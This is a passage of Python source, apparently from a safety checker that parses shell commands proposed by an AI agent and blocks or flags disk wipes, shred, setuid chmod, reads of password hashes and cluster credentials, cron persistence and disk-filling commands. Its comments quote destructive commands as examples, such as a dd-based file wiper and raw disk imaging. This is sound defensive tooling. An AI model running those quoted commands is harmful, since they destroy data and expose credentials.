        elif "{}" not in w.value and not _shred_spares(a, cmd, w.value):  # `{}`: find's or xargs' entries, read there
            a.review("irreversible", f"`{cmd.name}` overwrites {w.value} so that no copy of its content is left: git, "
                                     f"the sandbox and file recovery tools cannot restore it (a database, a key, "
                                     f"data that was never committed); {_RM_INSTEAD}", w.node)


def _tar_creates(c: Cmd) -> bool:
    """`tar czf`, `tar -cf`, `tar --create`: the mode that writes the archive."""
    for j, w in enumerate(c.args):
        v = w.value or ""
        if v in ("--create", "-c") or (v[:1] == "-" and v[1:2] != "-" or j == 0 and v.isalpha()) and "c" in v:
            return True
    return False


def _shred_spares(a, cmd: Cmd, v: str) -> bool:
    """Does shredding `v` lose nothing: a scratch or device path, a file made again on demand, or one this
    input wrote itself before (`openssl genrsa -out k.pem … && shred -u k.pem`)?"""
    there = a.in_cwd(v)
    n = paths.normalize(there or v)
    if n.startswith(paths.SCRATCH) or n in paths.HARMLESS_DEV or regenerable(n.rsplit("/", 1)[-1]):
        return True
    for doc, c in a.ctx.commands:
        if doc is not a.doc or c.node.start_byte >= cmd.node.start_byte:
            continue
        made = [written_file(a, c.redirects)] + [w.value for w in write_targets(c)] + \
            [w.value for w in option_value(c.args, "-out", "--out", "-o", "--output", "-keyout")]
        if c.name in ("tar", "gtar", "bsdtar") and _tar_creates(c):  # `tar czf /x/a.tgz … && gpg -e … && shred -u`
            from .net import _archive_written

            made.append(_archive_written(c))  # (only what it creates: `tar xzf`/`tar -tzf` read the archive)
        if any(m is not None and paths.normalize(m) in (n, paths.normalize(v)) for m in made):
            return True
    return False


_SIZE = re.compile(r"^(\d+(?:\.\d+)?)([kKmMgGtTpPeE]?)(i?[bB])?$")
_MULT = {"": 1, "k": 1 << 10, "m": 1 << 20, "g": 1 << 30, "t": 1 << 40, "p": 1 << 50, "e": 1 << 60}
HUGE = 10 << 30


def parse_size(s: str | None) -> int | None:
    m = _SIZE.match(s or "")
    if not m:
        return None
    return int(float(m.group(1)) * _MULT[m.group(2).lower()])


_ENDLESS_DEV = frozenset({"/dev/zero", "/dev/urandom", "/dev/random"})


# filters that pass an endless input on endlessly (they neither stop early nor drop it)
STREAMING = frozenset({"cat", "base64", "base32", "od", "xxd", "hexdump", "tr", "strings", "gzip", "bzip2", "xz",
                       "zstd", "lz4", "pigz", "pv", "rev", "tee", "openssl", "sed", "awk"})


def endless_source(cmd: Cmd, a=None) -> bool:
    """A command whose output does not end (or ends after 10 GiB or more): `yes`, `cat
    /dev/zero`, `base64 /dev/urandom`, `tr -dc a-z < /dev/urandom` (with `a`, its redirects are
    read too), `seq inf`, `head -c 100G /dev/urandom`."""
    n = cmd.name
    if n == "yes":
        return True
    if n in STREAMING and n not in ("tee", "sed", "awk"):
        if any(x.value in _ENDLESS_DEV for x in cmd.args):
            return True
        if a is not None:
            for r in cmd.redirects:
                if r.type == "file_redirect" and any(c.type == "<" for c in r.children):
                    if any(a.src(d) in _ENDLESS_DEV for d in r.children_by_field_name("destination")):
                        return True
        return False
    if n == "seq":
        return any(x.value in ("inf", "+inf", "infinity") for x in cmd.args)
    if n == "head" and any(x.value in _ENDLESS_DEV for x in cmd.args):
        return any((parse_size(w.value) or 0) >= HUGE for w in option_value(cmd.args, "-c", "--bytes"))
    return False


# a device path whose disk is named at run time: `/dev/$d`, `/dev/sd${x}`, `/dev/nvme${n}n1`, `/dev/mapper/$v`
# (a file under /dev/shm or a loop device being built is not one of these)
_RUNTIME_DEVICE = re.compile(r"^(?:of=)?[\"']?/dev/(?:\$|(?:sd|hd|vd|xvd|nvme|mmcblk|md|dm-)\w*\$|"
                             r"(?:mapper|disk/by-[\w-]+)/\$)")


def runtime_device(w: Word) -> bool:
    """Is the word a block device chosen at run time (the disk `lsblk | head -1` printed)?"""
    return w.value is None and _RUNTIME_DEVICE.match(w.text.lstrip("\"'")) is not None


def _dd(a, cmd: Cmd) -> None:
    out = next((w for w in cmd.args if runtime_device(w) and w.text.lstrip("\"'").startswith("of=")), None)
    if out is not None:
        a.block("disk-wipe", f"`dd {out.text[:60]}` writes onto a disk named at run time; write to a file instead",
                out.node)
    opts = {w.value.split("=", 1)[0]: w for w in cmd.args if w.value and "=" in w.value}
    src = opts.get("if")
    of = opts.get("of")
    if src is not None and src.value and paths.DEVICE in paths.kinds(src.value.split("=", 1)[1]):
        written = next((w for w in cmd.args if w.text.lstrip("\"'").startswith("of=")), None)
        image = (written.value or written.text.strip("\"'")).split("=", 1)[1] if written is not None else ""
        if image and not image.startswith(("/dev/", "/proc/")) and pipeline_stage(cmd) is None:
            # `sudo dd if=/dev/nvme1n1 of=$CASE/disk.img bs=4M`: a disk imaged into a file here (incident response,
            # a move to a new disk) stays on this machine; what it holds is everything on the disk, so an upload
            # of the image later is that disk sent
            a.review("secret-read", f"`dd {src.value}` copies the raw disk, every file and credential on it, into "
                                    f"{image}; a person should confirm the image is wanted and where it is kept",
                     src.node)
            from .net import note_file

            note_file(a, image, f"an image of the raw disk {src.value.split('=', 1)[1]}", cmd.node,
                      prefix=True)  # (`gzip disk.img` then `scp disk.img.gz …`)
        else:
            a.block("secret-read", f"`dd {src.value}` reads the raw disk, every file and credential on it; read "
                                   "project files instead", src.node)
    endless = src is not None and src.value and src.value.split("=", 1)[1] in _ENDLESS_DEV
    if of is not None and endless:
        count = parse_size(opts["count"].value.split("=", 1)[1]) if "count" in opts else None
        bs = parse_size(opts["bs"].value.split("=", 1)[1]) if "bs" in opts else 512
        target = of.value.split("=", 1)[1] if of.value else ""
        if target != "/dev/null" and not target.startswith("/dev/") and (count is None or (bs or 512) * count >= HUGE):
            a.block("resource-exhaustion", "`dd` from an endless source without a small count fills the disk", cmd.node)
    if endless and "conv" in opts and "notrunc" in (opts["conv"].value or ""):
        # `… | xargs -I{} dd if=/dev/urandom of={} conv=notrunc`, `dd … of="$f" conv=notrunc` in a loop: each file
        # it is handed overwritten in place (a wiper); a literal target is one known file (an image being patched)
        out = next((w for w in cmd.args if w.text.startswith(("of=", '"of=', "'of="))), None)
        if out is not None and (out.value is None or "{}" in out.value or "$" in out.text):
            a.block("destructive-rm", "`dd … conv=notrunc` from an endless source overwrites each file it is handed "
                                      "in place: their content is destroyed (a wiper)", cmd.node)


def _wipe(a, cmd: Cmd) -> None:
    vals = [v for v in cmd.values() if v]
    if cmd.name in _FORMATTERS and _formats_a_file(cmd):
        return  # `mkfs.ext4 -F build/disk.img`, `mkswap /swapfile`: a file made a disk image, no disk touched
    if cmd.name == "nvme" and vals[:1] and vals[0] in _NVME_READS:
        return
    if cmd.name in ("fdisk", "sfdisk", "parted", "gdisk", "sgdisk", "cfdisk") and (
            not vals or any(v in ("-l", "--list", "print", "-p", "--print") for v in vals)):
        if not any(v in ("mklabel", "rm", "mkpart", "--delete", "-Z", "--zap-all", "-o") for v in vals):
            return
    if cmd.name == "cryptsetup" and not any(v in ("luksFormat", "erase", "luksErase", "reencrypt") for v in vals):
        return
    if cmd.name == "hdparm" and not any(v.startswith("--security-erase") or v == "--trim-sector-ranges" for v in vals):
        return
    a.block("disk-wipe", f"`{cmd.name}` formats, partitions or erases a disk", cmd.node)


_FORMATTERS = frozenset({"mkfs", "mke2fs", "mkfs.ext4", "mkfs.ext3", "mkfs.ext2", "mkfs.xfs", "mkfs.btrfs", "mkfs.vfat",
                         "mkfs.fat", "mkfs.ntfs", "mkswap"})
_NVME_READS = frozenset({"list", "list-subsys", "smart-log", "id-ctrl", "id-ns", "error-log", "fw-log", "version",
                         "help", "show-regs", "get-log"})


def _formats_a_file(cmd: Cmd) -> bool:
    """Is every operand of a formatter a known path that is no device and no system, home or start-up file (an image
    in the project, a swap file), or a number (a size)? Option values (a label, a type) pass as such operands do."""
    ops = [w for w in cmd.args if (w.value or "-")[:1] != "-" or w.value is None]
    if not ops or any(w.value is None for w in ops):
        return False
    files = [w.value for w in ops if not w.value.isdigit()]  # type: ignore[union-attr]
    return bool(files) and all(not v.startswith("/dev/") and not paths.kinds(v) for v in files)  # type: ignore[union-attr]


_SETID = re.compile(r"^(?:[ugoa]*[+=][rwxXt]*s[rwxXst]*|[2-7][0-7]{3})$")
_RESTRICT = re.compile(r"^(?:0?[0-7]00|0?[46]00|0?700|0?644|0?600|0?400|go-[rwx]+|[ugoa]*-[rwx]+)$")


def _as_root(a, cmd: Cmd) -> Cmd:
    """`cmd` with the privilege of the command that runs it: `sudo find DIR -exec chmod 644 {} +` runs chmod as root,
    though chmod's own words carry no sudo (find's do)."""
    if cmd.wrappers or a.doc.anchor is not None or cmd.node is None or cmd.node.type != "command":
        return cmd
    name = cmd.node.child_by_field_name("name")
    word = a.ev.word(name.children[0]) if name is not None and name.children else None
    if word is None or word.value == cmd.name or word.value not in PRIVILEGE:
        return cmd
    return replace(cmd, wrappers=[(word.value, word)])


def service_tree_perm(a, inner: Cmd, starts: list[Word]) -> bool:
    """`sudo find /var/www/site/uploads -type d -exec chmod 755 {} +`: root handing a service its own folder, entry by
    entry (_perm reviews each as root's ordinary change), not permissions changed across the system. For
    exec._find_exec_scope; a setuid mode, a find not run as root, or a start outside one service's folder is not."""
    if inner.name not in ("chmod", "chown", "chgrp") or not starts or not admin.root_change(a, _as_root(a, inner)):
        return False
    pos = positionals(inner.args, frozenset({"--reference"}))
    if not pos or pos[0].value is None or inner.name == "chmod" and _SETID.match(pos[0].value):
        return False
    return all(s.value is not None and admin.app_folder(paths.normalize(s.value)) is not None for s in starts)


def _perm(a, cmd: Cmd) -> None:
    cmd = _as_root(a, cmd)
    args = cmd.args
    recursive = has_flag(args, "R", ("--recursive",))
    pos = positionals(args, frozenset({"--reference"}))
    if cmd.name in ("chmod", "chown", "chgrp", "chattr", "setfacl") and pos:
        mode = pos[0].value or ""
        targets = pos[1:]
        if cmd.name == "chmod" and _SETID.match(mode):
            a.block("privilege-escalation", f"`chmod {mode}` sets the setuid/setgid bit", pos[0].node)
        if cmd.name == "setfacl":
            targets = pos[1:]
    else:
        mode, targets = "", pos
    for w in targets:
        k = _kinds(w)
        n = paths.normalize(w.value or "")
        tightens = cmd.name == "chmod" and bool(_RESTRICT.match(mode))
        if tightens and (k <= {paths.SECRET} or n.startswith("~/") and ".git/hooks" not in n and
                         k <= {paths.SECRET, paths.PERSISTENCE}):
            continue  # tightening a key's (or ~/.ssh/config's) permissions is what ssh asks for
        if k and not _SETID.match(mode) and admin.perm_change(a, cmd, w, mode, tightens):
            continue
        if cmd.name == "chmod" and paths.PERSISTENCE in k and ".git/hooks" in n:
            a.block("persistence", f"`chmod` makes the git hook {w.value} runnable", w.node)
        elif k & {paths.SYSTEM, paths.HOME, paths.SECRET, paths.PERSISTENCE, paths.DEVICE} or (recursive and n in ("/", "~")):
            a.block("permission-tamper", f"`{cmd.name}` changes permissions or ownership of {w.value}", w.node)


def _install_mode(a, cmd: Cmd) -> None:
    for w in option_value(cmd.args, "-m", "--mode"):
        if w.value and _SETID.match(w.value):
            a.block("privilege-escalation", f"`install -m {w.value}` sets the setuid/setgid bit", w.node)


def _getent(a, cmd: Cmd) -> None:
    if any(v in ("shadow", "gshadow") for v in cmd.values()):
        a.block("secret-read", "`getent shadow` prints the password hashes; agents must not touch credentials",
                cmd.node)


def _kubectl(a, cmd: Cmd) -> None:
    vals = cmd.values()
    if "config" in vals and "view" in vals and any(v in ("--raw", "--raw=true") for v in vals):
        a.block("secret-read", "`kubectl config view --raw` prints the cluster credentials (tokens, client keys); "
                               "use `kubectl config view` or `kubectl config current-context`", cmd.node)


def _crontab(a, cmd: Cmd) -> None:
    if "-l" in cmd.values():
        return
    a.block("persistence", "`crontab` installs, edits or removes scheduled jobs; agents must not schedule code", cmd.node)


def _at(a, cmd: Cmd) -> None:
    if cmd.args and cmd.args[0].value in ("-l", "-c"):
        return
    a.block("persistence", f"`{cmd.name}` schedules a command to run later", cmd.node)


def _fallocate(a, cmd: Cmd) -> None:
    for w in option_value(cmd.args, "-l", "--length", "-s", "--size"):
        size = parse_size(w.value)
        if size is not None and size >= HUGE:
            a.block("resource-exhaustion", f"`{cmd.name}` allocates {w.value}; this fills the disk", w.node)


# a later stage of the pipeline that deletes what is piped to it (`… | xargs -0 -r rm -f`), and its options
_XARGS_DELETE = re.compile(r"^\s*xargs\b[^|;&]*?\s(?:\S*/)?(rm|shred)\b([^|;&]*)")


def _lfs(a, cmd: Cmd) -> None:
    """`lfs find /lustre/project/acme -mtime +180 -print0 | xargs -0 rm -f`: Lustre's own find, whose listing a delete
    downstream takes, read as `find … | xargs rm` is (exec.py: the entries it selects, held where they lie)."""
    if not cmd.args or cmd.args[0].value != "find":
        return
    up = cmd.node
    while up is not None and up.parent is not None and up.parent.type != "pipeline":
        up = up.parent
    pipe = up.parent if up is not None else None
    if pipe is None:
        return
    later = [c for c in pipe.named_children if c.start_byte > up.start_byte]
    m = next((x for c in later[:3] if (x := _XARGS_DELETE.match(a.src(c)))), None)
    if m is None:
        return
    recursive = re.search(r"(?:^|\s)-[a-zA-Z]*[rR]|--recursive", m.group(2)) is not None
    find = Cmd(cmd.node, [Word(cmd.words[0].node, "find", "find"), *cmd.args[1:]], "find")
    find_lists_history(a, find, recursive, cmd.node, m.group(1) == "shred")


HANDLERS = {
    "lfs": [_lfs],
    "rm": [_rm], "rmdir": [_rm], "unlink": [_rm],
    "shred": [_shred], "wipe": [_shred], "srm": [_shred],
    "dd": [_dd, _writers],
    **{n: [_wipe] for n in ("mkfs", "mke2fs", "mkfs.ext4", "mkfs.ext3", "mkfs.ext2", "mkfs.xfs", "mkfs.btrfs",
                            "mkfs.vfat", "mkfs.fat", "mkfs.ntfs", "mkswap", "wipefs", "blkdiscard", "fdisk", "sfdisk",
                            "parted", "gdisk", "sgdisk", "cfdisk", "cryptsetup", "hdparm", "nvme", "sg_format")},
    **{n: [_perm] for n in ("chmod", "chown", "chgrp", "chattr", "setfacl")},
    **{n: [_writers] for n in ("tee", "sponge", *_OUTPUT_OPTION, *_WRITTEN_OPERANDS, "vi", "vim", "nvim", "cp", "mv",
                               "ln", "sed", "gsed", "perl", "truncate", "touch", "curl",
                               "wget", "aria2c", "unzip", "rsync", "scp")},
    "install": [_writers, _install_mode],
    "crontab": [_crontab],
    "kubectl": [_kubectl],
    "getent": [_getent],
    **{n: [_tar_relative] for n in _TARS},
    "at": [_at], "batch": [_at],
    "fallocate": [_fallocate], "truncate": [_fallocate, _writers],
    **{n: [_writers] for n in ("git", "pytest", "py.test")},
    # (known, so that `solana config set --keypair KEY` is not read as the command `set KEY`: none of them runs its
    # arguments; check_args judges the files they are given)
    **{n: [] for n in _SOLANA_TOOLS},
}
for _n in _REMOVES_SOURCES:
    HANDLERS.setdefault(_n, []).append(_moved_away)
